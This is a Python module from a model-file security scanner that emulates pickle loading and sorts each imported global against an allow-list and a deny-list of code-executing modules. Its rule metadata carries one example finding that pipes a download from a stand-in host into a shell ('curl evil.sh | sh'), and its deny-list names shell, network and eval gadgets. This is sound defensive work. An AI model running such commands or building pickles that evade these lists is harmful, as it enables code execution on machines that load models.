"""What a pickle may import: an allow-list first, a deny-list for severity.

An import on neither list is unknown (medium): loading it runs that class's
constructor or `__setstate__`, which the scanner cannot vet. A deny-listed
import, an import the machine cannot resolve, a call on a computed callable
and attribute writes on imported objects are code execution (critical).
Deny entries match the module, every sub-module and every attribute path
under them, so `asyncio.unix_events._UnixSubprocessTransport` is caught by
`asyncio` and `os.path.join.__globals__` by `os`.
"""

from __future__ import annotations

import enum
import re
import sys
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from aisec_ci.rules import Rule
from aisec_ci.scanners.models.pickle_machine import (
    Call,
    Global,
    PDict,
    Persistent,
    PickleResult,
    describe,
    python3_name,
)
from aisec_ci.severity import Severity

PICKLE_CODE_EXECUTION = Rule(
    id="models/pickle-code-execution",
    name="Pickle runs code when loaded",
    short_description="A serialized model imports or calls something that executes code on load.",
    severity=Severity.CRITICAL,
    what=(
        "Emulates the pickle machine over every pickle in the model file (raw pickles, PyTorch zip and "
        "legacy checkpoints, joblib, object-dtype NumPy arrays, compressed and nested archives) and reports "
        "imports of deny-listed callables (os, subprocess, builtins eval/exec, importlib, runpy, ...), "
        "imports it cannot resolve, calls on computed callables (getattr/attrgetter chains) and attribute "
        "writes on imported objects."
    ),
    why=(
        "`pickle.load`, `torch.load(weights_only=False)`, `joblib.load` and `numpy.load(allow_pickle=True)` "
        "execute the callables a pickle names. A model downloaded from a hub or committed by a contributor "
        "can run a reverse shell on every machine that loads it, including CI runners and production servers."
    ),
    example="model.pt: archive/data.pkl imports os.system and calls os.system('curl evil.sh | sh')",
    fix=(
        "Do not load the file. Obtain the model from a trusted source and convert it to safetensors, or load it "
        "with `torch.load(path, weights_only=True)` on a current PyTorch in an isolated environment."
    ),
    tags=("CWE-502", "CWE-94"),
    precision="high",
    references=(
        "https://docs.python.org/3/library/pickle.html#restricting-globals",
        "https://github.com/trailofbits/fickling",
    ),
)

PICKLE_UNKNOWN_IMPORT = Rule(
    id="models/pickle-unknown-import",
    name="Pickle imports a global outside the allow-list",
    short_description="A serialized model imports a class or function that is not on the vetted allow-list.",
    severity=Severity.MEDIUM,
    what=(
        "Reports every global a pickle imports that is neither on the allow-list (PyTorch tensor rebuild and "
        "storage helpers, NumPy arrays and dtypes, collections, common scikit-learn, XGBoost and Hugging Face "
        "classes, harmless builtins) nor on the deny-list. A CamelCase class of `__main__` (a whole model "
        "saved with `torch.save(model)` from its training script) is reported at low severity."
    ),
    why=(
        "Loading constructs the named object and may call its `__reduce__` target or `__setstate__`. Unknown "
        "callables are how deny-list scanners are bypassed: new gadgets are found in the standard library and "
        "popular packages every year."
    ),
    example="classifier.pkl imports mypackage.utils.load_hook",
    fix=(
        "If the import is your own class and the file comes from your own pipeline, add it to "
        "`models.allowed_globals` in `.aisec.yml`. Otherwise prefer a format without code (safetensors, ONNX, "
        "skops) or review the class's `__setstate__`/`__reduce__`."
    ),
    tags=("CWE-502",),
    precision="medium",
)

PICKLE_FORMAT = Rule(
    id="models/pickle-format",
    profile="strict",
    name="Model stored as pickle",
    short_description="The model file is (or contains) a pickle; prefer safetensors.",
    severity=Severity.INFO,
    what="Notes model files whose weights or objects are serialized with pickle.",
    why=(
        "Any pickle can execute code when loaded, so every consumer must trust the file completely. Formats "
        "such as safetensors store tensors only and cannot run code."
    ),
    example="model.bin (PyTorch zip with archive/data.pkl)",
    fix="Save weights with `safetensors.torch.save_file` (or `save_pretrained(safe_serialization=True)`).",
    tags=("CWE-502",),
    precision="very-high",
)


class Verdict(enum.Enum):
    ALLOW = "allow"
    UNKNOWN = "unknown"
    DENY = "deny"


# --- allow-list ------------------------------------------------------------------------

_NUMPY_CORE = ("numpy.core", "numpy._core")
_TORCH_STORAGES = [
    "FloatStorage",
    "DoubleStorage",
    "HalfStorage",
    "BFloat16Storage",
    "LongStorage",
    "IntStorage",
    "ShortStorage",
    "CharStorage",
    "ByteStorage",
    "BoolStorage",
    "ComplexFloatStorage",
    "ComplexDoubleStorage",
    "QInt8Storage",
    "QUInt8Storage",
    "QInt32Storage",
    "QUInt4x2Storage",
    "QUInt2x4Storage",
    "UntypedStorage",
    "TypedStorage",
]
_TORCH_DTYPES = [
    "float32",
    "float",
    "float64",
    "double",
    "float16",
    "half",
    "bfloat16",
    "int8",
    "uint8",
    "int16",
    "short",
    "int32",
    "int",
    "int64",
    "long",
    "bool",
    "complex32",
    "complex64",
    "complex128",
    "cfloat",
    "cdouble",
    "qint8",
    "quint8",
    "qint32",
    "quint4x2",
    "float8_e4m3fn",
    "float8_e5m2",
    "float8_e4m3fnuz",
    "float8_e5m2fnuz",
    "uint16",
    "uint32",
    "uint64",
    "strided",
    "sparse_coo",
    "sparse_csr",
    "_mkldnn",
    "contiguous_format",
    "channels_last",
    "channels_last_3d",
    "preserve_format",
    "Size",
    "device",
    "dtype",
    "layout",
    "memory_format",
]
_TORCH_REBUILD = [
    "_rebuild_tensor",
    "_rebuild_tensor_v2",
    "_rebuild_tensor_v3",
    "_rebuild_parameter",
    "_rebuild_parameter_with_state",
    "_rebuild_sparse_tensor",
    "_rebuild_sparse_csr_tensor",
    "_rebuild_qtensor",
    "_rebuild_meta_tensor_no_storage",
    "_rebuild_wrapper_subclass",
    "_rebuild_nested_tensor",
    "_rebuild_device_tensor_from_numpy",
    "_rebuild_xla_tensor",
    "_rebuild_mlc_tensor",
    "_rebuild_buffer",
]
_NUMPY_SCALARS = [
    "bool_",
    "int8",
    "int16",
    "int32",
    "int64",
    "uint8",
    "uint16",
    "uint32",
    "uint64",
    "float16",
    "float32",
    "float64",
    "longdouble",
    "complex64",
    "complex128",
    "str_",
    "bytes_",
    "void",
    "datetime64",
    "timedelta64",
    "intc",
    "uintc",
    "intp",
    "uintp",
]


def _build_allowed() -> frozenset[str]:
    names: set[str] = set()
    for n in [
        "set",
        "frozenset",
        "complex",
        "slice",
        "bytearray",
        "range",
        "dict",
        "list",
        "tuple",
        "int",
        "float",
        "str",
        "bytes",
        "bool",
        "object",
    ]:
        names.add(f"builtins.{n}")
    names.update(
        {
            "builtins.NotImplemented",
            "builtins.Ellipsis",
            "collections.OrderedDict",
            "collections.defaultdict",
            "collections.deque",
            "collections.Counter",
            "copyreg._reconstructor",
            "copyreg.__newobj__",
            "copyreg.__newobj_ex__",
            "_codecs.encode",
            "codecs.encode",
            "datetime.datetime",
            "datetime.date",
            "datetime.time",
            "datetime.timedelta",
            "datetime.timezone",
            "decimal.Decimal",
            "fractions.Fraction",
            "uuid.UUID",
            "argparse.Namespace",
            "types.SimpleNamespace",
            "pathlib.Path",
            "pathlib.PosixPath",
            "pathlib.WindowsPath",
            "pathlib.PurePosixPath",
            "pathlib.PureWindowsPath",
            "numpy.ndarray",
            "numpy.dtype",
            "numpy.ma.core._mareconstruct",
            "numpy.ma.core.MaskedArray",
            "numpy.random._pickle.__randomstate_ctor",
            "numpy.random._pickle.__bit_generator_ctor",
            "numpy.random._pickle.__generator_ctor",
            "numpy.random._mt19937.MT19937",
            "numpy.random._pcg64.PCG64",
            "numpy.random._philox.Philox",
            "numpy.random._sfc64.SFC64",
            "numpy.random.mtrand.RandomState",
            "torch._utils._rebuild_tensor_v2",
            "torch._tensor._rebuild_from_type_v2",
            "torch._tensor._rebuild_from_type",
            "torch.nn.parameter.Parameter",
            "torch.nn.parameter.Buffer",
            "torch.serialization._get_layout",
            "torch.storage._TypedStorage",
            "torch.torch_version.TorchVersion",
            "joblib.numpy_pickle.NumpyArrayWrapper",
            "joblib.numpy_pickle_compat.NDArrayWrapper",
            "joblib.numpy_pickle_compat.ZNDArrayWrapper",
            "sklearn.externals.joblib.numpy_pickle.NumpyArrayWrapper",
            "pandas.core.indexes.base._new_Index",
            "pandas.core.frame.DataFrame",
            "pandas.core.series.Series",
            "pandas.core.indexes.base.Index",
            "pandas.core.indexes.range.RangeIndex",
            "pandas.core.indexes.multi.MultiIndex",
            "pandas.core.indexes.datetimes.DatetimeIndex",
            "pandas.core.internals.managers.BlockManager",
            "pandas.core.internals.managers.SingleBlockManager",
            "pandas.core.arrays.categorical.Categorical",
            "pandas.core.dtypes.dtypes.CategoricalDtype",
            "pandas._libs.tslibs.timestamps.Timestamp",
            "pandas._libs.internals.BlockPlacement",
            "pandas._libs.internals._unpickle_block",
            "pandas.core.internals.blocks.new_block",
            "pandas._libs.arrays.__pyx_unpickle_NDArrayBacked",
            "pandas._libs.tslibs.timestamps._unpickle_timestamp",
            "pandas._libs.tslibs.timedeltas._timedelta_unpickle",
        }
    )
    for core in _NUMPY_CORE:
        names.update({f"{core}.multiarray._reconstruct", f"{core}.multiarray.scalar", f"{core}.numeric._frombuffer"})
    for n in _NUMPY_SCALARS:
        names.add(f"numpy.{n}")
    for n in _TORCH_STORAGES:
        names.add(f"torch.{n}")
        names.add(f"torch.storage.{n}")
    for n in _TORCH_DTYPES:
        names.add(f"torch.{n}")
    for n in _TORCH_REBUILD:
        names.add(f"torch._utils.{n}")
    return frozenset(names)


ALLOWED = _build_allowed()

# Packages whose *classes* (CamelCase names, no attribute path) are allowed:
# estimators, configs and layers that real checkpoints reference by the hundred.
# Functions in them stay unknown, and the deny-list still wins.
CLASS_PACKAGES = (
    "sklearn",
    "xgboost",
    "lightgbm",
    "catboost",
    "transformers",
    "tokenizers",
    "accelerate",
    "peft",
    "sentence_transformers",
    "torch.nn.modules",
    "torch.optim",
    "scipy.sparse",
)
_CLASS_NAME = re.compile(r"^[A-Z][A-Za-z0-9_]*$")

# --- deny-list -------------------------------------------------------------------------

_SHELL = "runs programs or shell commands"
_EVAL = "evaluates or compiles code"
_IMPORT = "imports modules or resolves callables by name"
_ATTR = "looks up attributes by name, reaching any callable"
_FILES = "reads, writes or deletes files"
_NET = "opens network connections"
_NESTED = "loads another pickle or archive"
_DEBUG = "runs code under a debugger, profiler or test harness"
_NATIVE = "calls native code"
_INSTALL = "installs packages"
_INTERPRETER = "reaches the interpreter's internals (modules, import path, hooks)"

_PANDAS_READERS = [
    "csv",
    "table",
    "excel",
    "hdf",
    "sql",
    "sql_query",
    "sql_table",
    "html",
    "json",
    "parquet",
    "feather",
    "orc",
    "sas",
    "spss",
    "stata",
    "fwf",
    "xml",
    "clipboard",
    "pickle",
]

DENIED: dict[str, str] = {
    **{m: _SHELL for m in ("os", "posix", "nt", "subprocess", "commands", "popen2", "pty", "platform.popen")},
    **{m: _SHELL for m in ("multiprocessing", "concurrent", "asyncio", "_posixsubprocess", "signal", "threading")},
    **{m: _EVAL for m in ("builtins.eval", "builtins.exec", "builtins.compile", "builtins.execfile")},
    **{m: _EVAL for m in ("code", "codeop", "runpy", "marshal", "types", "ast", "dis", "inspect")},
    **{m: _IMPORT for m in ("builtins.__import__", "importlib", "pkgutil", "zipimport", "imp", "builtins.reload")},
    **{m: _ATTR for m in ("builtins.getattr", "builtins.setattr", "builtins.delattr", "builtins.vars")},
    **{m: _ATTR for m in ("builtins.globals", "builtins.locals")},
    **{m: _ATTR for m in ("operator", "_operator", "functools", "_functools", "copyreg", "copy_reg", "gc")},
    **{m: _ATTR for m in ("string.Formatter", "builtins.dict.get", "builtins.classmethod", "builtins.staticmethod")},
    **{m: _FILES for m in ("builtins.open", "builtins.file", "io", "_io", "shutil", "tempfile", "fileinput")},
    **{m: _FILES for m in ("codecs.open", "linecache", "glob", "zipfile", "tarfile", "shelve", "dbm", "sqlite3")},
    **{m: _FILES for m in ("logging.FileHandler", "logging.handlers", "logging.config", "mmap", "fcntl")},
    **{m: _FILES for m in ("distutils", "setuptools", "py_compile", "compileall", "zipapp", "filecmp")},
    **{m: _FILES for m in ("numpy.save", "numpy.savez", "numpy.savetxt", "numpy.memmap", "numpy.fromfile")},
    **{m: _FILES for m in ("numpy.tofile", "numpy.lib.format.open_memmap", "pathlib.Path.write_text")},
    **{m: _NET for m in ("socket", "_socket", "ssl", "http", "httplib", "urllib", "urllib2", "urllib3")},
    **{m: _NET for m in ("requests", "aiohttp", "httpx", "ftplib", "smtplib", "telnetlib", "poplib")},
    **{m: _NET for m in ("imaplib", "nntplib", "xmlrpc", "socketserver", "webbrowser", "paramiko", "select")},
    **{m: _NESTED for m in ("pickle", "_pickle", "cPickle", "dill", "cloudpickle", "joblib", "pickletools")},
    **{m: _NESTED for m in ("numpy.load", "numpy.lib.npyio", "torch.load", "torch.serialization", "torch.hub")},
    **{m: _NESTED for m in ("pandas.read_pickle", "pandas.io.pickle", "yaml", "jsonpickle", "shelve")},
    **{m: _NESTED for m in ("torch.storage._load_from_bytes", "torch.package", "keras.models.load_model")},
    **{m: _EVAL for m in ("torch.jit", "torch._inductor", "torch.fx", "torch._dynamo", "torch.utils.cpp_extension")},
    **{m: _EVAL for m in ("torch.ops", "torch.classes", "torch.compile", "torch.library", "torch._C._jit")},
    **{m: _EVAL for m in ("numpy.f2py", "numpy.testing", "numpy.distutils", "numpy.ctypeslib", "IPython")},
    **{m: _SHELL for m in ("torch.utils.collect_env", "torch.distributed.rpc", "torch.multiprocessing")},
    **{m: _DEBUG for m in ("pdb", "bdb", "profile", "cProfile", "timeit", "trace", "doctest", "test", "pydoc")},
    **{m: _DEBUG for m in ("unittest", "idlelib", "lib2to3", "tkinter", "turtle", "_pyrepl", "cgitb")},
    **{m: _INTERPRETER for m in ("sys", "_interpreters", "_xxsubinterpreters", "_thread", "_imp", "builtins.input")},
    **{m: _DEBUG for m in ("builtins.breakpoint", "builtins.help", "builtins.exit", "builtins.quit")},
    **{m: _NATIVE for m in ("ctypes", "_ctypes", "cffi", "resource", "_osx_support", "_aix_support")},
    **{m: _INSTALL for m in ("pip", "ensurepip", "venv", "site", "sysconfig")},
    # uuid's private *_getnode helpers run ifconfig/arp/netstat; uuid.UUID itself is allow-listed.
    **{m: _SHELL for m in ("uuid", "antigravity", "this", "atexit", "pwd", "grp", "tty", "termios")},
    **{m: _FILES for m in ("tokenize", "pandas.io", "pandas.HDFStore", "pandas.ExcelWriter", "pandas.to_pickle")},
    **{f"pandas.read_{fmt}": _FILES for fmt in _PANDAS_READERS},
    "builtins.apply": _EVAL,
    **{m: _EVAL for m in ("jinja2", "mako", "cython", "numexpr", "sympy.parsing", "pandas.eval")},
}

_DUNDER = re.compile(r"^__[A-Za-z0-9_]+__$")
_STDLIB = frozenset(getattr(sys, "stdlib_module_names", ()))


@dataclass(frozen=True)
class Policy:
    """The allow/deny lists, extended by the user's configuration."""

    extra_allowed: frozenset[str] = frozenset()
    extra_denied: frozenset[str] = frozenset()

    def classify(self, module: str, name: str) -> tuple[Verdict, str]:
        """Verdict and reason for importing `module`.`name`."""
        # Python 3 loaders rename Python 2 modules (protocols 0-2); under any
        # other protocol the old name fails to import, so the new name is the risk.
        return self._classify_one(*python3_name(module, name))

    def _classify_one(self, module: str, name: str) -> tuple[Verdict, str]:
        full = f"{module}.{name}"
        for entry in self.extra_denied:
            if _covers(entry, full):
                return Verdict.DENY, "denied by configuration"
        if full in ALLOWED or full in self.extra_allowed:
            return Verdict.ALLOW, ""
        for prefix in _prefixes(full):
            reason = DENIED.get(prefix)
            if reason is not None:
                return Verdict.DENY, reason
        # `__main__.Model` is a class from the training script (unknown, not an
        # attribute trick); any other dunder segment walks into object internals.
        parts = module.split(".") + name.split(".")
        if parts[0] == "__main__":
            parts = parts[1:]
        if any(_DUNDER.match(p) for p in parts):
            return Verdict.DENY, "reaches a dunder attribute (__globals__, __builtins__, __subclasses__ ...)"
        top = module.split(".", 1)[0]
        if top.startswith("_") and top in _STDLIB:
            return Verdict.DENY, "imports a private interpreter module"
        if top in ("builtins", "__builtin__") and "." in name:
            return Verdict.DENY, "takes a method off a builtin type, an attribute-lookup gadget"
        if "." not in name and _CLASS_NAME.match(name) and any(_covers(p, module) for p in CLASS_PACKAGES):
            return Verdict.ALLOW, ""
        return Verdict.UNKNOWN, ""


_RANK = {Verdict.ALLOW: 0, Verdict.UNKNOWN: 1, Verdict.DENY: 2}


def _covers(entry: str, full: str) -> bool:
    if entry.endswith(".*"):
        entry = entry[:-2]
    return full == entry or full.startswith(entry + ".")


def _prefixes(full: str) -> Iterable[str]:
    parts = full.split(".")
    for i in range(1, len(parts) + 1):
        yield ".".join(parts[:i])


# --- assessing one pickle --------------------------------------------------------------


@dataclass
class PickleIssue:
    """One problem found in one pickle; `subject` identifies it independently of offsets."""

    rule: Rule
    subject: str
    message: str
    imports: list[str] = field(default_factory=list)
    call: str = ""
    offset: int = 0
    severity: Severity | None = None
    """Overrides the rule's severity (a training script's own class is routine)."""


MAX_UNKNOWN_ISSUES = 100
"""Unknown imports reported per pickle; a stream naming thousands is summarised, not listed."""


def assess(result: PickleResult, policy: Policy) -> list[PickleIssue]:
    issues: list[PickleIssue] = []
    seen: set[str] = set()
    chains = _ChainIndex(result.calls)
    unknown = 0

    def add(issue: PickleIssue) -> None:
        if issue.subject not in seen:
            seen.add(issue.subject)
            issues.append(issue)

    for g in result.imports:
        if not g.resolved:
            if f"unresolved:{g.opcode}" in seen:
                continue
            add(
                PickleIssue(
                    PICKLE_CODE_EXECUTION,
                    f"unresolved:{g.opcode}",
                    f"imports a global that cannot be resolved statically ({g.why_unresolved}); "
                    "an import computed at load time can name anything",
                    imports=[g.dotted],
                    call=chains.chain_for(g),
                    offset=g.offset,
                )
            )
            continue
        if not g.well_formed or f"import:{g.dotted}" in seen or f"unknown:{g.dotted}" in seen:
            continue
        verdict, reason = policy.classify(g.module, g.name)
        if verdict is Verdict.DENY:
            chain = chains.chain_for(g)
            used = f" and calls it: {chain}" if chain else ""
            add(
                PickleIssue(
                    PICKLE_CODE_EXECUTION,
                    f"import:{g.dotted}",
                    f"imports {g.dotted}, which {reason}{used}",
                    imports=[g.dotted],
                    call=chain,
                    offset=g.offset,
                )
            )
        elif verdict is Verdict.UNKNOWN:
            unknown += 1
            if unknown > MAX_UNKNOWN_ISSUES:
                continue
            if is_script_class(g.module, g.name):
                add(
                    PickleIssue(
                        PICKLE_UNKNOWN_IMPORT,
                        f"unknown:{g.dotted}",
                        f"imports {g.dotted}, a class defined in the script that saved the model (normal for a "
                        "whole model pickled with torch.save(model)): low, since loading it needs that class "
                        "defined by the loader; review the class if the file is not your own",
                        imports=[g.dotted],
                        call=chains.chain_for(g),
                        offset=g.offset,
                        severity=Severity.LOW,
                    )
                )
                continue
            add(
                PickleIssue(
                    PICKLE_UNKNOWN_IMPORT,
                    f"unknown:{g.dotted}",
                    f"imports {g.dotted}, which is not on the allow-list",
                    imports=[g.dotted],
                    call=chains.chain_for(g),
                    offset=g.offset,
                )
            )
    if unknown > MAX_UNKNOWN_ISSUES:
        add(
            PickleIssue(
                PICKLE_UNKNOWN_IMPORT,
                "unknown:more",
                f"imports {unknown - MAX_UNKNOWN_ISSUES} more globals outside the allow-list (not listed)",
            )
        )
    for c in result.calls:
        issue = _structural(c)
        if issue is not None:
            add(issue)
    return issues


def is_script_class(module: str, name: str) -> bool:
    """`__main__.MyNet`: a class of the training script, pickled by reference.

    Only a single CamelCase name counts; `__main__.system` or a dotted
    `__main__.os.system` may reach whatever the loading script imported.
    """
    return module == "__main__" and _CLASS_NAME.match(name) is not None


class _ChainIndex:
    """For each imported global, the first call that uses it: as (part of) the callee, else as an argument.

    Built in one pass over the calls so that a stream with thousands of
    imports and calls costs linear time.
    """

    def __init__(self, calls: list[Call]) -> None:
        self._as_callee: dict[int, Call] = {}
        self._as_argument: dict[int, Call] = {}
        for c in calls:
            if c.kind not in ("reduce", "inst", "obj", "newobj", "newobj_ex"):
                continue
            for g in _globals_under(c.func, 4):
                self._as_callee.setdefault(id(g), c)
            for g in _globals_under(c.args, 3):
                self._as_argument.setdefault(id(g), c)

    def chain_for(self, g: Global) -> str:
        c = self._as_callee.get(id(g)) or self._as_argument.get(id(g))
        return describe(c) if c is not None else ""


def _globals_under(value: Any, depth: int) -> Iterable[Global]:
    if isinstance(value, Global):
        yield value
    elif depth > 0:
        if isinstance(value, Call):
            yield from _globals_under(value.func, depth - 1)
            yield from _globals_under(value.args, depth - 1)
        elif isinstance(value, tuple):
            for item in value[:16]:
                yield from _globals_under(item, depth - 1)


def _structural(c: Call) -> PickleIssue | None:
    func = c.func
    if c.kind == "build":
        if isinstance(func, Global):
            return PickleIssue(
                PICKLE_CODE_EXECUTION,
                f"build-global:{func.dotted}",
                f"BUILD sets attributes on the imported object {func.dotted}, rewiring code other loads will run",
                imports=[func.dotted],
                call=describe(c),
                offset=c.offset,
            )
        state = c.args
        if isinstance(state, tuple) and len(state) == 2 and isinstance(state[1], PDict):
            dunders = sorted({k for k, _ in state[1].pairs if isinstance(k, str) and _DUNDER.match(k)})
            if dunders:
                return PickleIssue(
                    PICKLE_CODE_EXECUTION,
                    f"build-dunder:{','.join(dunders)}",
                    f"BUILD writes the special attribute(s) {', '.join(dunders)} on a loaded object",
                    imports=_globals_in(func),
                    call=describe(c),
                    offset=c.offset,
                )
        return None
    if c.kind in ("append", "setitem", "add"):
        if isinstance(func, Global):
            return PickleIssue(
                PICKLE_CODE_EXECUTION,
                f"mutate-global:{func.dotted}",
                f"calls a method of the imported object {func.dotted} while loading (mutating shared state)",
                imports=[func.dotted],
                call=describe(c),
                offset=c.offset,
            )
        return None
    if isinstance(func, (Call, Persistent)):
        origin = "the result of another call" if isinstance(func, Call) else "an object returned by persistent_load"
        rendered = describe(c)
        return PickleIssue(
            PICKLE_CODE_EXECUTION,
            f"computed-call:{describe(func, 3)}",
            f"calls {origin} ({rendered}); getattr/attrgetter/import_module-style chains build callables this way",
            imports=_globals_in(c),
            call=rendered,
            offset=c.offset,
        )
    return None


def _globals_in(value: Any, depth: int = 4) -> list[str]:
    out: list[str] = []

    def walk(v: Any, d: int) -> None:
        if d <= 0 or len(out) >= 8:
            return
        if isinstance(v, Global):
            if v.dotted not in out:
                out.append(v.dotted)
        elif isinstance(v, Call):
            walk(v.func, d - 1)
            walk(v.args, d - 1)
        elif isinstance(v, tuple):
            for item in v[:16]:
                walk(item, d - 1)

    walk(value, depth)
    return out
